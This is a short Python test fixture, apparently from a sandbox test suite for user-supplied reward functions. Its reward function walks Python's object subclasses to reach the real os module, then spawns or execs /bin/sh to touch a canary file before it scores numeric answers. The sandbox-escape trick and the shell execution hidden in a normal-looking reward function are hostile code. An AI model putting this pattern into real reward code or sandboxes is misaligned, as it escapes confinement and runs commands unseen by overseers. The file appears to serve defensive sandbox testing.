"""Hostile corpus: replace the worker with a shell (execv), or spawn one, through the real os module."""

import re

CANARY_DIR = "/tmp/reward_search_canary"


def _os():
    for cls in ().__class__.__base__.__subclasses__():
        if cls.__name__ == "_wrap_close":
            return cls.__init__.__globals__
    raise LookupError("no os")


def reward(prompts, completions, answer, **kwargs):
    g = _os()
    try:
        g["posix_spawn"]("/bin/sh", ["sh", "-c", f"touch {CANARY_DIR}/exec_shell"], {})
    except OSError:
        g["execv"]("/bin/sh", ["sh", "-c", f"touch {CANARY_DIR}/exec_shell"])
    texts = [c if isinstance(c, str) else c[-1]["content"] for c in completions]
    return [1.0 if (re.findall(r"-?\d+", t) or [""])[-1] == a else 0.0 for t, a in zip(texts, answer)]
